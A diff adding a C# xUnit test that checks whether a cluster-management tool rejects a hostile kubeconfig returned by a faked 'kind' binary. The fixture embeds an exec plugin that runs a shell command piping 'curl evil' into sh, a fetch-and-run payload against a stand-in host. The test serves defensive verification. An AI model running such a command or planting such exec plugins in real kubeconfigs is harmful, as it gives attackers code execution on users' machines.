@@ -160,4 +160,43 @@ public sealed class KubeconfigSanitizerTests : IDisposable
         Assert.Contains("token: \"true\"", text);
         Assert.Contains("name: \"0123\"", text);
     }
+
+    [Fact]
+    public async Task A_hostile_kubeconfig_from_the_provider_fails_the_step_and_is_never_stored()
+    {
+        // A kind that answers `get kubeconfig` with an exec plugin (what a compromised node or API could return);
+        // everything else goes to the kind stand-in.
+        using var bin = new TempDir("ksctl-bin");
+        var kind = bin.Combine("kind");
+        File.WriteAllText(kind, $"""
+            #!/usr/bin/env bash
+            if [[ "$1" == get && "$2" == kubeconfig ]]; then
+            cat <<'YAML'
+            {NodeKubeconfig(userExtra: "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, 'curl evil | sh']")}
+            YAML
+            exit 0
+            fi
+            exec {Path.Combine(Samples.StandinsDirectory(), "kind")} "$@"
+            """.Replace("\r\n", "\n"));
+        File.SetUnixFileMode(kind, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
+        File.CreateSymbolicLink(bin.Combine("docker"), Path.Combine(Samples.StandinsDirectory(), "docker"));
+        var kindState = _dir.Combine("kind-state");
+        using var env = new EnvironmentScope()
+            .Set("PATH", string.Join(Path.PathSeparator, bin.Path, "/usr/bin", "/bin"))
+            .Set(KsctlSettings.HomeVariable, _dir.Path)
+            .Set("KIND_STANDIN_STATE", kindState).Set("KIND_STANDIN_LOG", null).Set("KIND_STANDIN_FAIL_CREATE", null)
+            .Set("KIND_STANDIN_CREATE_DELAY", null).Set("DOCKER_STANDIN_DOWN", null);
+        var settings = KsctlSettings.Load(_dir.Path);
+        using var manager = new ClusterManager(settings);
+        var id = Samples.LocalId("hostile");
+
+        var failed = await Assert.ThrowsAnyAsync<KsctlException>(() => manager.CreateAsync(new ClusterSpec { Id = id }, OperationOptions.Default, CancellationToken.None));
+
+        Assert.Equal("KsctlCreationFailed", failed.ErrorId);
+        Assert.Contains("exec", failed.Message);
+        var state = await manager.GetAsync(id, CancellationToken.None);
+        Assert.Equal(ClusterStatus.CreationFailed, state.Status);
+        Assert.False(state.Secrets.ContainsKey(ClusterState.KubeconfigSecret));
+        Assert.DoesNotContain("curl evil", string.Concat(Directory.GetFiles(settings.StatePath, "*", SearchOption.AllDirectories).Select(File.ReadAllText)));
+    }
 }
